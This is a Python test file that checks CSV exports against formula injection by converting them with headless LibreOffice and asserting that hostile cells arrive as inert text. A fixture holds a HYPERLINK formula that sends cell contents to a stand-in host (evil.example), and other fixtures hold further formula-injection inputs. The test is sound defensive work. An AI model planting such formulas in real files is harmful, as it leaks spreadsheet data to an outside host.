"""Open exported CSVs the way a coordinator would: LibreOffice, headless. Skipped without soffice
(failing under CI=true: tests/parts.py).

LibreOffice evaluates a CSV cell like `=1+2` on import (the control row proves it here), so this
is a real check that neutralised cells arrive as text and that no formula reaches the sheet.
"""

from __future__ import annotations

import csv
import dataclasses
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest

from kit.export import CSV_PRESETS
from tests.parts import require_part
from tests.unit.export_samples import export_bytes, sample_records

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")


@pytest.fixture(autouse=True)
def _libreoffice() -> None:
    if SOFFICE is None:
        require_part("LibreOffice", "soffice not installed (apt-get install libreoffice-calc-nogui)")


HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
# Comma separator, double quote, UTF-8 (76), start at row 1: what the Text Import dialog
# offers for these files.
CSV_FILTER = "CSV:44,34,76,1"


def _convert(source: Path, target_format: str, outdir: Path, profile: Path) -> Path:
    subprocess.run(
        [SOFFICE, "--headless", "--norestore", f"-env:UserInstallation={profile.as_uri()}",
         f"--infilter={CSV_FILTER}", "--convert-to", target_format, "--outdir", str(outdir),
         str(source)],
        check=True, capture_output=True, timeout=180,
    )
    return outdir / f"{source.stem}.{target_format.split(':')[0]}"


@pytest.mark.parametrize("preset", CSV_PRESETS)
def test_libreoffice_evaluates_no_formula_from_an_export(preset: str, tmp_path: Path) -> None:
    hostile = dataclasses.replace(sample_records()[0], first_name=HOSTILE, last_name="=1+2",
                                  note="@SUM(1,2)")
    source = tmp_path / f"{preset}.csv"
    data = export_bytes(preset, [hostile])
    # A control row written without neutralisation, to prove LibreOffice evaluates formulas.
    source.write_bytes(data + b"=1+2\r\n")
    profile = tmp_path / "profile"

    xlsx = _convert(source, "xlsx", tmp_path / "xlsx", profile)
    with zipfile.ZipFile(xlsx) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode("utf-8")
        strings = book.read("xl/sharedStrings.xml").decode("utf-8")
    assert sheet.count("<f") == 1, "only the control row may hold a formula"
    assert "HYPERLINK" in strings and "HYPERLINK" not in sheet

    back = _convert(source, "csv:Text - txt - csv (StarCalc):44,34,76,1", tmp_path / "csv", profile)
    with back.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[-1][0] == "3", "the control row shows LibreOffice does evaluate formulas"
    cells = rows[1]
    assert "'" + HOSTILE in cells
    assert "'=1+2" in cells
    assert "3" not in cells
    # The E.164 phone keeps every digit (a spreadsheet may drop the + when it shows a number);
    # Action Network's email file has no phone column at all.
    if preset != "actionnetwork":
        assert any(cell.lstrip("+") == "16125550100" for cell in cells)
